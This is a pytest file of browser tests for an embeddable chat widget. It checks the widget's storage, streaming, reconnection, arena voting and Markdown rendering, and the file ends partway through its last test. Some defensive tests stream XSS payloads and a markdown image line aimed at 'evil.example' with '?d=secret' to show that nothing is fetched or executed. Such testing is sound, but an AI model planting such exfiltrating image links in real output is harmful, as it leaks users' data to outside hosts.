"""The chat widget and the pages as visitors meet them: in a real Chromium, on a page of another origin under a strict
Content-Security-Policy, against a real service.
"""

from __future__ import annotations

import gzip
import json
import re
import shutil
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from tests.browser import chromium, website
from tests.conftest import CLOSED, absent, store
from tests.harness import minute_with_room, until
from tests.harness.node import packages
from tests.harness.proxy import Proxy
from tests.harness.service import ROOT, Service

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

WIDGET = ROOT / "widget" / "widget.js"
BUDGET = 10_240  # bytes, gzipped
MODELS = [
    {"id": "calm", "provider": "demo", "personality": "scholar", "display_name": "Calm Owl", "pace": 0.01},
    {"id": "wild", "provider": "demo", "personality": "poet", "display_name": "Wild Fox", "pace": 0.01},
]
POLICY = (
    "default-src 'none'; script-src {base}; connect-src {base} {socket}; base-uri 'none'; form-action 'none'; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)


def counted(number: int) -> str:
    return " ".join(f"⟨{n}⟩" for n in range(number))


# -- a page of somebody else


class Pages:
    """What `good.example` serves. A test sets how the widget stands in it; `hostile` adds the worst of stylesheets."""

    def __init__(self) -> None:
        self.base = ""
        self.attributes = ""
        self.body = "<h1>A shop</h1><p>Buy something.</p>"
        self.language = 'lang="en"'
        self.hostile = False
        self.doctype = "<!doctype html>"
        self.head = ""
        self.images = ""

    def answer(self, path: str) -> tuple[dict[str, str], str]:
        policy = POLICY.format(base=self.base, socket=self.base.replace("http", "ws"))
        style = "<style>*, *::before { all: unset !important; color: red !important } parley-chat { display: none !important }</style>"
        if self.hostile:
            policy += "; style-src 'unsafe-inline'"
        if self.images:
            policy += f"; img-src {self.images}"
        script = f'<script src="{self.base}/widget.js" async {self.attributes}></script>'
        head = f'<meta name="viewport" content="width=device-width"><title>Shop</title>{style * self.hostile}{self.head}'
        html = f"{self.doctype}<html {self.language}><head>{head}{script}</head><body><main>{self.body}</main></body></html>"
        return {"Content-Security-Policy": policy, "Cross-Origin-Embedder-Policy": "require-corp"}, html


class Visit:
    """A tab with a widget in it."""

    def __init__(self, tab: Any) -> None:
        self.tab = tab
        self.requests: list[str] = []
        self.problems: list[str] = []
        self.warnings: list[str] = []
        tab.on("pageerror", lambda problem: self.problems.append(str(problem)))
        tab.on("console", self._listen)
        tab.on("request", lambda request: self.requests.append(request.url))
        tab.on("websocket", lambda socket: self.requests.append(socket.url))

    def _listen(self, message: Any) -> None:
        if re.search(r"Content Security|Trusted", message.text):
            self.problems.append(message.text)
        if message.type == "warning":
            self.warnings.append(message.text)

    @property
    def sockets(self) -> list[str]:
        return [url for url in self.requests if url.startswith("ws")]

    async def ask(self, script: str, given: Any = None) -> Any:
        """Run a function's body in the page: `chat` is the widget, `talk` its conversation, `$` finds inside it."""
        names = "const chat = document.querySelector('parley-chat'), talk = chat; const $ = (s) => chat.root.querySelector(s);"
        return await self.tab.evaluate(f"(given) => {{ {names} {script} }}", given)

    async def see(self, condition: str, within: float = 15.0, given: Any = None) -> Any:
        async def look() -> Any:
            return await self.ask(f"return {condition}", given)

        return await until(look, within, condition, lambda: str(self.problems))

    async def there(self) -> Visit:
        await self.see("!!chat?.root")
        return self

    async def open(self) -> Visit:
        await self.button("Open chat").click()
        return self

    def button(self, name: str) -> Any:
        return self.tab.get_by_role("button", name=name, exact=True)

    @property
    def box(self) -> Any:
        return self.tab.locator("parley-chat textarea")

    async def say(self, text: str) -> None:
        await self.box.fill(text)
        await self.box.press("Enter")

    async def answered(self, replies: int = 1) -> str:
        """Wait until all is answered; the last answer's text as it is shown."""
        await self.see(
            "talk.list.filter(({role}) => role !== 'user').length >= given && !talk.running"
            " && !talk.list.some(({status}) => status === 'sending') && !chat.frame", given=replies)  # fmt: skip
        return await self.shown()

    async def shown(self) -> str:
        return await self.ask("return [...chat.root.querySelectorAll('.prose')].at(-1)?.textContent ?? ''")

    async def reload(self) -> Visit:
        await self.tab.reload()
        return await self.there()


# -- fixtures


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Any]:
    async with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def site() -> Iterator[tuple[Pages, int]]:
    pages = Pages()
    with website(pages.answer) as port:
        yield pages, port


def environment(request: pytest.FixtureRequest, folder: Path, port: int, **more: str) -> dict[str, str]:
    wishes = {
        "ALLOWED_ORIGINS": f"http://good.example:{port}",
        "PARLEY_MODELS": json.dumps(MODELS),
        "PARLEY_SUGGESTIONS": '["Hello", "Is it raining?"]',
        "PARLEY_GREETING": "What is it?",
        "PARLEY_LEADERBOARD_CACHE": "0",
        "ADMIN_TOKEN": "the-operators-token-of-these-tests",
    }
    return CLOSED | store("sqlite", request, folder) | wishes | more


@pytest.fixture(scope="module")
def service(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, site: tuple[Pages, int], browser: Any
) -> Iterator[Service]:
    with Service(environment(request, tmp_path_factory.mktemp("widget"), site[1]), server="serve") as running:
        yield running
        log = running.log()
    assert "Traceback" not in log, log[-6000:]


@pytest.fixture
def pages(site: tuple[Pages, int], service: Service) -> Pages:
    """The foreign page, as it is without wishes."""
    site[0].__init__()  # type: ignore[misc]
    site[0].base = service.url
    return site[0]


@pytest_asyncio.fixture(loop_scope="module")
async def context(browser: Any) -> AsyncIterator[Any]:
    made = await browser.new_context(viewport={"width": 1000, "height": 800})
    yield made
    await made.close()


@pytest_asyncio.fixture(loop_scope="module")
async def visit(context: Any, pages: Pages, site: tuple[Pages, int]) -> AsyncIterator[Any]:
    """Opens the foreign page, or a page of the service by its path. At the end nothing has gone wrong in any of them."""
    made: list[Visit] = []

    async def go(path: str = "") -> Visit:
        made.append(Visit(await context.new_page()))
        await made[-1].tab.goto(f"{pages.base}{path}" if path else f"http://good.example:{site[1]}/")
        return made[-1]

    yield go
    assert [problem for each in made for problem in each.problems] == []


# -- what is sent


async def test_the_widget_keeps_its_budget() -> None:
    packed = len(gzip.compress(WIDGET.read_bytes(), 9, mtime=0))
    assert packed <= BUDGET, f"{packed} bytes gzipped, {packed - BUDGET} too many"


async def test_the_widget_uses_nothing_a_policy_forbids() -> None:
    """A policy would stop it only where a page has one."""
    text = WIDGET.read_text()
    for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function(", ".style", "'style'"):
        assert word not in text, word


# -- a visit


async def test_nothing_is_asked_or_kept_before_it_is_opened(visit: Any, context: Any) -> None:
    """Opening asks for the settings; the first message makes a guest, a session and a socket."""
    shop = await (await visit()).there()
    kept = "return [localStorage.length, sessionStorage.length, document.cookie]"
    assert [url.rpartition("/")[2] for url in shop.requests if "favicon" not in url] == ["", "widget.js"]
    assert await shop.ask(kept) == [0, 0, ""]
    await shop.open()
    await shop.see("$('.empty button')?.textContent === 'Hello'")
    assert await shop.ask("return $('.hello').textContent") == "What is it?"
    assert [url.rpartition("/api/")[2] for url in shop.requests if "/api/" in url] == ["widget/"]
    assert await shop.ask(kept) == [0, 0, ""]
    await shop.button("Is it raining?").click()
    assert "raining" in await shop.answered()
    asked = [url.rpartition("/api/")[2] for url in shop.requests if "/api/" in url]
    assert asked == ["widget/", "auth/anonymous/", "sessions/"]
    assert len(shop.sockets) == 1
    text = await shop.ask("return JSON.stringify(localStorage)")
    assert "raining" not in text and await context.cookies() == []


async def test_what_is_not_to_be_remembered_is_not(visit: Any, pages: Pages) -> None:
    pages.attributes = 'data-remember="no"'
    shop = await (await (await visit()).there()).open()
    await shop.say("Hello")
    await shop.answered()
    assert await shop.ask("return [localStorage.length, sessionStorage.length]") == [0, 0]
    await (await shop.reload()).open()
    await shop.see("$('.empty button')")


async def test_an_answer_has_its_table_list_and_code(visit: Any) -> None:
    shop = await (await (await visit()).there()).open()
    await shop.say("Tell me about rivers")
    await shop.answered()
    assert await shop.ask("return [...$('.prose').children].map((each) => each.tagName)") == ["H3", "P", "OL", "DIV", "DIV", "P"]
    assert await shop.ask("return [...chat.root.querySelectorAll('td.end')].length") == 3
    assert "def weigh" in await shop.ask("return $('pre').textContent")
    assert await shop.ask("return $('.code > div').firstChild.data") == "python"


async def test_stopping_stops_it_on_the_server(visit: Any) -> None:
    shop = await (await (await visit()).there()).open()
    await shop.say("/long 2000")
    await shop.see("$('.prose')?.textContent.length > 100")
    await shop.button("Stop").click()
    await shop.answered()
    assert await shop.ask("return talk.list.at(-1).status") == "stopped"
    await shop.see("$('.acts .note').textContent === 'Stopped' && $('[title=Send]')")


async def test_a_reload_in_the_middle_loses_nothing(visit: Any) -> None:
    shop = await (await (await visit()).there()).open()
    await shop.say("/count 2000")
    await shop.see("talk.list.at(-1).text.length > 200")
    await (await shop.reload()).open()
    await shop.see("talk.running && talk.list.at(-1).text.length > 300")
    await shop.button("Stop").click()
    assert counted(2000).startswith(await shop.answered())


async def test_earlier_messages_are_shown_on_request(visit: Any, accessibility: None) -> None:
    """The last 50 are there at once, those before them after a click: the reader stays at the words they were at."""
    shop = await (await (await visit()).there()).open()
    await shop.say("/count 2")
    await shop.answered()
    await shop.ask("""
        const ask = (n) => fetch(`${chat.base}/api/messages/stream/?format=text`, {method: 'POST', headers: {'X-Anonymous-Token': chat.keys.guest},
            body: JSON.stringify({session_id: chat.id, content: `/echo question ${n}`})}).then((answer) => answer.text());
        return (async () => { for (let n = 0; n < 28; n++) await ask(n); })();
    """)
    await (await shop.reload()).open()
    await shop.see("talk.list.length === 50 && !chat.frame")
    assert await axe(shop) == []
    place = "[...chat.root.querySelectorAll('.you')].find((each) => each.textContent === '/echo question 4').getBoundingClientRect().top"
    await shop.ask("$('.log').scrollTop = 0")
    before = await shop.ask(f"return {place}")
    await shop.button("Earlier messages").click()
    await shop.see("talk.list.length === 58")
    assert abs(await shop.ask(f"return {place}") - before) < 2
    assert await shop.ask("return $('.you').textContent") == "/count 2"
    assert await shop.ask("return chat.root.activeElement === $('.log')")
    await shop.button("Good answer").last.click()
    await shop.see("$('.like.on')")
    assert await shop.ask("return talk.list.length") == 58
    assert await shop.button("Earlier messages").count() == 0
    await shop.say("/count 3")
    await shop.see("talk.list.length === 60 && !talk.running")


async def test_drawing_leaves_time_to_the_page(visit: Any) -> None:
    """When one drawing takes 50 ms, a second has place for seven and not for twenty."""
    shop = await (await visit()).there()
    drawn = await shop.ask("""
        const until = (ms, end = performance.now() + ms) => { while (performance.now() < end); };
        let drawn = 0;
        chat.down = () => { drawn++; until(50); };
        const more = setInterval(() => chat.changed(), 5);
        return new Promise((done) => setTimeout(() => { clearInterval(more); done(drawn); }, 1000));
    """)
    assert 1 <= drawn <= 7


async def test_tabs_share_a_session(visit: Any) -> None:
    """What is said in one is seen in all, each with a socket of its own; a new chat in one is one in all."""
    first = await (await (await visit()).there()).open()
    second = await (await (await visit()).there()).open()
    await first.say("/count 150")
    await second.see("talk.list.at(-1)?.text.length > 50")
    third = await (await (await visit()).there()).open()
    for tab in (first, second, third):
        assert await tab.answered() == counted(150)
    await third.say("/count 3")
    await first.answered(2)
    assert await first.shown() == counted(3)
    await second.button("New chat").click()
    await first.see("talk.list.length === 0")
    await second.say("/count 4")
    await first.see("chat.root.querySelector('.prose')?.textContent === given", given=counted(4))


async def test_another_tab_s_storage_is_none_of_its_business(visit: Any) -> None:
    """What the page keeps beside it, changed in another tab while the first message is on its way, loses nothing."""
    shop = await (await (await visit()).there()).open()
    other = await (await visit()).there()
    await shop.ask("chat.make = ((make) => async () => { await make(); window.made = true; })(chat.make.bind(chat))")
    await shop.say("/count 60")
    await shop.see("window.made")
    for n in range(5):
        await other.ask("localStorage.setItem('cart', given)", str(n))
    assert await shop.answered() == counted(60)
    assert len(shop.sockets) == 1


async def test_a_lost_connection_goes_on_where_it_was(visit: Any, pages: Pages) -> None:
    """The socket is cut three times in one answer: no word is lost or doubled, and what stood there stays as it was."""
    async with Proxy.before(pages.base) as proxy:
        pages.base = proxy.through(pages.base)
        shop = await (await (await visit()).there()).open()
        await shop.say("/count 2000")
        await shop.see("talk.list.at(-1)?.text.length > 50")
        await shop.ask("chat.first = $('.prose').firstChild.firstChild")
        for n in range(3):
            proxy.close_all()
            await until(lambda n=n: len(shop.sockets) == n + 2, 15, "a new socket")
            await shop.see("talk.state === 'live'")
            known = await shop.ask("return talk.list.at(-1).text.length")
            await shop.see("talk.list.at(-1).text.length > given", given=known)
        await shop.button("Stop").click()
        assert counted(2000).startswith(await shop.answered())
        assert await shop.ask("return chat.first === $('.prose').firstChild.firstChild")
    assert all(re.search(r"cursor=[^&]", url) for url in shop.sockets[1:])


async def test_offline_is_said_and_ends(visit: Any, context: Any) -> None:
    """What is written meanwhile waits and is sent once."""
    shop = await (await (await visit()).there()).open()
    await shop.say("/count 200")
    await shop.see("talk.list.at(-1).text.length > 50")
    await context.set_offline(True)
    await shop.see("$('.state')?.textContent === 'Offline'")
    await context.set_offline(False)
    assert await shop.answered() == counted(200)
    await context.set_offline(True)
    await shop.see("talk.state === 'offline'")
    await shop.say("/count 5")
    await shop.see("$('.note')?.textContent === 'Waiting to be sent'")
    await context.set_offline(False)
    await shop.answered(2)
    assert await shop.shown() == counted(5)
    assert await shop.ask("return talk.list.length") == 4


async def test_a_restart_interrupts_and_one_click_goes_on(
    visit: Any, pages: Pages, request: pytest.FixtureRequest, tmp_path: Path, site: tuple[Pages, int], accessibility: None
) -> None:
    async with Service(environment(request, tmp_path, site[1]), server="serve") as running:
        pages.base = running.url
        shop = await (await (await visit()).there()).open()
        await shop.say("/slow 0.1 a long story")
        await shop.see("talk.list.at(-1).text.length > 50")
        await running.restart()
        await shop.answered()
        assert await shop.ask("return [talk.list.at(-1).status, talk.state]") == ["interrupted", "live"]
        assert await axe(shop) == []
        await shop.button("Continue").click()
        await shop.answered(2)
        assert await shop.ask("return talk.list.at(-1).status") == "success"


# -- the arena


async def test_a_battle_is_voted_on_once_and_revealed(visit: Any, pages: Pages) -> None:
    """Another tab that has not heard of the vote yet is told, and sees the names."""
    pages.attributes = 'data-mode="arena" data-open'
    one, other = await (await visit()).there(), await (await visit()).there()
    await one.say("Which of you is right?")
    await one.answered(2)
    await other.answered(2)
    names = "return [...chat.root.querySelectorAll('.by')].map((each) => each.firstChild.data)"
    assert await one.ask(names) == ["Model A", "Model B"]
    edges = await one.ask("return [...chat.root.querySelectorAll('.reply')].map((each) => getComputedStyle(each).borderTopColor)")
    assert edges[0] != edges[1], "the sides have colours"
    assert not re.search(r"\b(owl|fox|calm|wild)\b", await one.ask("return $('section').textContent"), re.IGNORECASE)
    await other.ask("talk.hear = () => {}")  # its news are late
    votes = await one.ask("chat.votes = []; chat.addEventListener('chat:vote', ({detail}) => chat.votes.push(detail.preference))")
    await one.button("A is better").click()
    await one.see("chat.votes.length === 1")
    await one.see("!$('.votes')")
    assert set(await one.ask(names)) == {"Calm Owl", "Wild Fox"}
    assert votes is None and await one.ask("return [...chat.root.querySelectorAll('.won')].map((each) => each.className)") == ["reply a won"]
    assert "model_a" not in await one.ask("return $('section').textContent")
    await other.ask("delete talk.hear")
    await other.button("B is better").click()
    await other.see("$('.alert')?.textContent.includes('voted')")
    await other.see("!$('.votes')")
    assert set(await other.ask(names)) == {"Calm Owl", "Wild Fox"}


async def test_a_failed_battle_cannot_be_voted_on_but_asked_again(visit: Any, pages: Pages, accessibility: None) -> None:
    pages.attributes = 'data-mode="arena" data-open'
    shop = await (await visit()).there()
    await shop.say("/fail 3 poet")
    await shop.answered(2)
    assert await shop.ask("return [...chat.root.querySelectorAll('.note')].map((each) => each.textContent)") == ["The model could not be reached."]
    assert await shop.ask("return $('.votes')") is None
    assert await axe(shop) == []
    # An answer that fails at once runs too shortly to be seen from outside, or between two events.
    await shop.ask("const hear = talk.hear.bind(talk); talk.hear = (event) => { hear(event); window.ran ||= talk.running }")
    await shop.button("Try again").click()
    await shop.see("window.ran")
    await shop.answered(2)


# -- what goes wrong


async def test_limits_are_said_and_can_be_tried_again(
    visit: Any, pages: Pages, request: pytest.FixtureRequest, tmp_path: Path, site: tuple[Pages, int], accessibility: None
) -> None:
    with Service(environment(request, tmp_path, site[1], PARLEY_MESSAGES_PER_MINUTE="1"), server="serve") as running:
        pages.base = running.url
        shop = await (await (await visit()).there()).open()
        await shop.ask("chat.errors = []; chat.addEventListener('chat:error', ({detail}) => chat.errors.push(detail.code))")
        await minute_with_room(12)
        await shop.say("Hello")
        await shop.answered()
        await shop.say("Hello again")
        await shop.see("$('.bad[role=alert]')?.textContent.match(/ \\d+ s/)")
        assert await shop.ask("return chat.errors") == ["rate_limited"]
        assert await axe(shop) == []
        assert await shop.ask("return talk.list.length") == 3
        await shop.button("Try again").click()
        await shop.see("chat.errors.length === 2")
        assert await shop.ask("return talk.list.length") == 3


async def test_a_service_that_is_away_is_said(visit: Any, pages: Pages) -> None:
    async with Proxy.before(pages.base) as proxy:
        pages.base = proxy.through(pages.base)
        shop = await (await (await visit()).there()).open()
        await shop.see("$('.empty button')")
        proxy.refuse()
        proxy.close_all()
        await shop.say("/count 3")
        await shop.see("$('.bad')?.textContent.includes('This chat cannot be reached.')")
        proxy.ok()
        await shop.button("Try again").click()
        assert await shop.answered() == counted(3)


async def test_a_message_that_is_too_long_stays_in_the_box(visit: Any) -> None:
    shop = await (await (await visit()).there()).open()
    await shop.see("$('.empty button')")
    await shop.tab.keyboard.insert_text("0123456789" * 4_000)
    await shop.box.press("Enter")
    await shop.see("$('.alert')?.textContent.includes('A message has at most 16384 characters.')")
    assert await shop.ask("return [$('textarea').value.length, talk.list.length]") == [40_000, 0]
    await shop.box.fill("字" * 16_384)
    await shop.box.press("Enter")
    await shop.answered()
    assert await shop.ask("return [$('textarea').value, talk.state, talk.list[0].text.length]") == ["", "live", 16_384]


async def test_an_input_method_s_enter_sends_nothing(visit: Any) -> None:
    """Safari says of the Enter that ends a composition that nothing is composed: its number tells."""
    shop = await (await (await visit()).there()).open()
    await shop.box.fill("に")
    await shop.ask("$('textarea').dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', keyCode: 229, bubbles: true, cancelable: true}))")
    assert await shop.ask("return [$('textarea').value, talk.list.length]") == ["に", 0]


async def test_a_full_storage_keeps_nobody_from_talking(visit: Any) -> None:
    """Guest and session are kept as long as the page is there."""
    shop = await (await (await visit()).there()).open()
    await shop.ask("""
        for (let size = 4e6; size >= 1; size /= 2) try { for (let n = 0; ; n++) localStorage.setItem(`${size} ${n}`, 'x'.repeat(size)); } catch {}
    """)
    await shop.say("/count 3")
    assert await shop.answered() == counted(3)
    await shop.say("/count 4")
    assert await shop.answered(2) == counted(4)


async def test_what_is_taken_off_the_page_falls_silent(visit: Any, pages: Pages) -> None:
    """Its socket is closed, and opened again when it is put back."""
    pages.body = "<parley-chat inline></parley-chat>"
    shop = await (await visit()).there()
    await shop.say("/count 150")
    await shop.see("talk.list.at(-1)?.text.length > 50")
    assert await shop.ask("window.kept = chat; chat.remove(); dispatchEvent(new Event('online')); return kept.socket === null")
    await shop.tab.evaluate("document.body.append(kept)")
    assert await shop.answered() == counted(150)
    assert len(shop.sockets) == 2


async def test_a_draft_outlives_what_is_drawn_around_it(visit: Any) -> None:
    """The box one writes in is the same, with its words and the focus, while notices come and go."""
    shop = await (await (await visit()).there()).open()
    await shop.say("/count 40")
    await shop.see("talk.list.length")
    await shop.box.fill("half a sentence")
    await shop.ask("chat.before = $('textarea'); talk.refuse(0, {code: 'internal', message: 'Something.'}); chat.draw(); chat.follows = false; chat.draw()")
    assert await shop.ask("return !!$('.alert') && !!$('.latest')")
    await shop.ask("talk.problem = null; chat.follows = true; chat.draw()")
    await shop.answered()
    assert await shop.ask("return [chat.before === chat.root.activeElement, $('textarea').value, !$('.alert')]") == [True, "half a sentence", True]


async def test_a_chat_that_is_gone_makes_room_for_another(visit: Any, pages: Pages, accessibility: None) -> None:
    shop = await (await (await visit()).there()).open()
    await shop.say("/count 3")
    await shop.answered()
    await shop.ask("return fetch(`${talk.base}/api/sessions/${talk.id}/`, {method: 'DELETE', headers: {'X-Anonymous-Token': talk.keys.guest}}).then(() => 0)")
    await shop.see("$('.alert')?.textContent.includes('This chat cannot be reached.')")
    assert await axe(shop) == []
    await shop.say("/count 4")
    await shop.see("talk.list.length === 2")
    assert await shop.answered() == counted(4)


# -- what a page may do


async def test_a_page_hears_and_speaks(visit: Any) -> None:
    """`chat:send` may be refused; `send`, `stop`, `reset` and `toggle` do what the buttons do."""
    shop = await (await visit()).there()
    await shop.ask("""
        window.heard = [];
        for (const name of ['open', 'send', 'message', 'vote', 'error'])
            document.addEventListener(`chat:${name}`, (event) => {
                heard.push(name);
                if (event.detail?.text === 'secret') event.preventDefault();
            });
        chat.toggle();
    """)
    assert await shop.ask("return [chat.send('secret'), chat.send('/count 3')]") == [False, True]
    await shop.answered()
    assert await shop.ask("return heard") == ["open", "send", "send", "message"]
    await shop.ask("chat.reset()")
    await shop.see("$('.empty')")
    await shop.ask("chat.toggle(false)")
    await shop.see("!$('dialog').open")


async def test_a_script_that_is_there_twice_is_one_widget(visit: Any, pages: Pages) -> None:
    pages.head = f'<script src="{pages.base}/widget.js" async></script>'
    shop = await (await visit()).there()
    await shop.tab.wait_for_load_state("networkidle")
    assert await shop.ask("return document.querySelectorAll('parley-chat').length") == 1


async def test_copying_says_whether_it_worked(visit: Any, context: Any, pages: Pages) -> None:
    """A page without https has no clipboard, and so no button."""
    shop = await (await (await visit()).there()).open()
    await shop.say("/count 3")
    await shop.answered()
    assert await shop.button("Copy").count() == 0
    home = await (await visit("/")).there()
    await home.say("/count 3")
    await home.answered()
    devtools = await context.new_cdp_session(home.tab)
    its = (await devtools.send("Target.getTargetInfo"))["targetInfo"]["browserContextId"]
    writing = {"permission": {"name": "clipboard-write"}, "origin": pages.base, "browserContextId": its}
    for setting, mark in (("granted", "✓"), ("denied", "✗")):
        await devtools.send("Browser.setPermission", {"setting": setting, **writing})
        await home.ask("chat.draw()")
        await home.tab.get_by_title("Copy").click()
        await home.see("$('[title=Copy]').textContent === given", given=mark)


# -- the wire


UPDATE = """
    const begin = (id, role = 'assistant') => talk.hear({type: 'message_update', turn_id: 't', cursor: 't.0',
        message: {id, role, content: '', status: role === 'user' ? 'success' : 'pending', position: role === 'user' ? 0 : 1, participant: 'a'}});
    const chunk = (text, offset, cursor = 't.1') => talk.hear({type: 'message_chunk', turn_id: 't', message_id: 'r', chunk: text, offset, cursor});
    const text = () => talk.messages.get('r').text;
"""


async def test_text_is_placed_by_code_points(visit: Any) -> None:
    """What is there already is dropped; where something is missing the widget comes back for it with its cursor."""
    shop = await (await visit()).there()
    said = await shop.ask(UPDATE + """
        let lost = 0;
        talk.drop = () => lost++;
        begin('u', 'user'); begin('r');
        chunk('a😀b', 0, 't.3');
        chunk('😀bc', 1, 't.4');      // two of three are known
        chunk('c', 3, 't.4');         // all of it is
        const before = text();
        chunk('z', 9, 't.10');        // something is missing
        const cursor = talk.cursor;
        talk.hear({type: 'resumed', turn_id: 't', cursor});
        chunk('de😀', 4, 't.7');
        return {before, lost, cursor, after: text(), then: talk.cursor};
    """)
    assert said == {"before": "a😀bc", "lost": 1, "cursor": "t.4", "after": "a😀bcde😀", "then": "t.7"}


@pytest.mark.parametrize(
    ("code", "state"),
    [(1012, "offline"), (4408, "offline"), (4429, "offline"), (1006, "offline"), (1009, "over"), (4400, "over"), (4403, "over"), (4404, "over"), (4401, "over")],
)  # fmt: skip
async def test_a_close_code_says_whether_to_come_back(visit: Any, code: int, state: str) -> None:
    shop = await (await visit()).there()
    said = await shop.ask("""
        talk.keep({guest: 'g', direct: 's'});
        talk.closed(given);
        clearTimeout(talk.timer);
        return [talk.state, talk.keys];
    """, code)
    kept = {} if code == 4401 else {"guest": "g"} if code == 4404 else {"guest": "g", "direct": "s"}
    assert said == [state, kept]


# -- Markdown


async def grown(shop: Visit, text: str, sizes: list[int]) -> list[str]:
    """The HTML a text has in the end when it comes in pieces of these sizes, and when it comes whole."""
    return await shop.ask(UPDATE + """
        const html = () => { chat.draw(); return $('.prose').innerHTML; };
        const end = (content) => talk.hear({type: 'message_complete', turn_id: 't', message_id: 'r', message: {...talk.messages.get('r'), content, status: 'success'}});
        begin('u', 'user'); begin('r');
        const points = [...given.text];
        for (let i = 0, k = 0; i < points.length; k++) {
            const piece = points.slice(i, i + given.sizes[k % given.sizes.length]);
            chunk(piece.join(''), i); html();
            i += piece.length;
        }
        end(given.text);
        const grown = html();
        talk.messages.clear(); chat.draw();
        begin('u', 'user'); begin('r'); end(given.text);
        return [grown, html()];
    """, {"text": text, "sizes": sizes})


MARKDOWN = {
    "# One\n\nand *two* and __three__ `four`": "<h3>One</h3><p>and <em>two</em> and <strong>three</strong> <code>four</code></p>",
    "a\n- b\n  - c\n\n    more\n- d\n1. e": "<p>a</p><ul><li>b<ul><li>c<p>more</p></li></ul></li><li>d</li></ul><ol><li>e</li></ol>",
    "3. x\n4. y\n\n\nz": '<ol start="3"><li>x</li><li>y</li></ol><p>z</p>',
    "> q\n> > r\n\n---\n": "<blockquote><p>q</p><blockquote><p>r</p></blockquote></blockquote><hr>",
    "snake_case_name 2*3*4 \\*no\\*": "<p>snake_case_name 2*3*4 *no*</p>",
    "***both*** **a *b* c**": "<p><strong><em>both</em></strong> <strong>a <em>b</em> c</strong></p>",
    "~~gone~~ and ~ here": "<p><del>gone</del> and ~ here</p>",
    "**open and `code": "<p>**open and `code</p>",
    "1 < 2 & <b>3</b>": "<p>1 &lt; 2 &amp; &lt;b&gt;3&lt;/b&gt;</p>",
    "## one\n### two\n##### three\n# four": "<h3>one</h3><h4>two</h4><h6>three</h6><h3>four</h3>",
}  # fmt: skip


@pytest.mark.parametrize("text", MARKDOWN)
async def test_markdown_becomes_these_nodes(visit: Any, text: str) -> None:
    shop = await (await visit()).there()
    for sizes in ([1], [3, 1, 7], [1000]):
        assert await grown(shop, text, sizes) == [MARKDOWN[text]] * 2


LONG = """
Intro with **bold**, a [link](https://example.org/a_b?c=d*e) and https://example.org/x_y.

| A | B |
|:-:|--:|
| 1 | `a\\|b` |
| 2 | three |

1. first
   ```js
   const x = '**no**'

   let y
   ```
2. second

   still second
3. third
   - nested *em*
   - [ ] open

- other

> quote
continued

```
unclosed **code**
# not a heading
"""


async def test_growing_ends_where_writing_at_once_does(visit: Any) -> None:
    shop = await (await visit()).there()
    for sizes in ([1], [2, 5], [13], [1, 1, 40]):
        one, other = await grown(shop, LONG, sizes)
        assert one == other
    assert "<code>a|b</code>" in other
    assert "<h" not in other


async def test_what_is_finished_is_not_touched_again(visit: Any) -> None:
    """While the rest is written no node of a finished block is added, removed or changed."""
    shop = await (await visit()).there()
    changes = await shop.ask(UPDATE + """
        begin('u', 'user'); begin('r');
        const start = 'One **two**.\\n\\n```py\\nx = 1\\n```\\n\\n- a\\n- b\\n\\nnext\\n';
        chunk(start, 0); chat.draw();
        const blocks = [...$('.prose').children].slice(0, -1), watcher = new MutationObserver(() => 0);
        for (const block of blocks) watcher.observe(block, {subtree: true, childList: true, attributes: true, characterData: true});
        watcher.observe($('.prose'), {childList: true});
        let at = start.length;
        for (const piece of ['more ', 'text\\n', '\\n| a | b |\\n', '|--|--|\\n', '| 1 | 2 |\\n', '\\nend']) { chunk(piece, at); at += piece.length; chat.draw(); }
        const seen = watcher.takeRecords();
        return [blocks.length, seen.filter(({target}) => target !== $('.prose')).length, seen.reduce((sum, {removedNodes}) => sum + removedNodes.length, 0),
            blocks.every((block, i) => block === $('.prose').children[i])];
    """)
    assert changes[:2] == [3, 0] and changes[3]
    assert changes[2] <= 1, "a table begins as the paragraph of its first line"


PAYLOADS = (ROOT / "tests" / "payloads.txt").read_text().splitlines()


async def test_no_payload_runs_or_asks(visit: Any) -> None:
    """Each is streamed in pieces by the real service: no script runs, nothing is asked of anybody, no link is dangerous."""
    shop = await (await (await visit()).there()).open()
    await shop.ask("window.alert = window.evil = () => { window.ran = true }")
    assert len(PAYLOADS) >= 60
    text = "\n\n".join(PAYLOADS)
    pieces = [text[i : i + 12_000] for i in range(0, len(text), 12_000)]
    for n, piece in enumerate(pieces):
        await shop.say(f"/echo {piece}")
        await shop.answered(n + 1)
    found = await shop.ask("""
        const all = [...chat.root.querySelectorAll('.prose *')];
        return {
            ran: !!window.ran,
            tags: [...new Set(all.map((each) => each.tagName))].filter((tag) => /SCRIPT|IFRAME|OBJECT|EMBED|IMG|STYLE|LINK|META|FORM|INPUT|VIDEO|AUDIO|BASE|MATH/.test(tag)),
            handlers: all.flatMap((each) => each.getAttributeNames()).filter((name) => /^on|style|srcdoc|src$/.test(name)),
            links: [...new Set(all.filter((each) => each.href).map((each) => new URL(each.href).protocol))].filter((each) => !/^(https?|mailto):$/.test(each)),
            rel: all.filter((each) => each.href && each.rel !== 'noopener nofollow').length,
        };
    """)
    assert found == {"ran": False, "tags": [], "handlers": [], "links": [], "rel": 0}
    elsewhere = [url for url in shop.requests if not re.match(r"(http|ws)://(127\.0\.0\.1|good\.example):\d+/", url)]
    assert elsewhere == []


async def test_no_image_is_asked_for(visit: Any) -> None:
    """An image is a request, in which an answer could send away what it knows; a link says where it would lead."""
    shop = await (await visit()).there()
    html = (await grown(shop, "![a](https://evil.example/?d=secret) ![](http://evil.example/b.png)", [5]))[0]
    assert "<img" not in html and html.count("<a ") == 2 and ">a</a>" in html


async def test_images_come_from_allowed_hosts_alone(visit: Any, pages: Pages) -> None:
    pages.attributes, pages.images = 'data-open data-images="pics.example,cdn.example:444"', "https://pics.example"
    shop = await visit()
    asked: list[Any] = []

    async def picture(route: Any) -> None:
        asked.append(route.request)
        svg = '<svg xmlns="http://www.w3.org/2000/svg" width="3000" height="90"/>'
        await route.fulfill(body=svg, content_type="image/svg+xml", headers={"Cross-Origin-Resource-Policy": "cross-origin"})

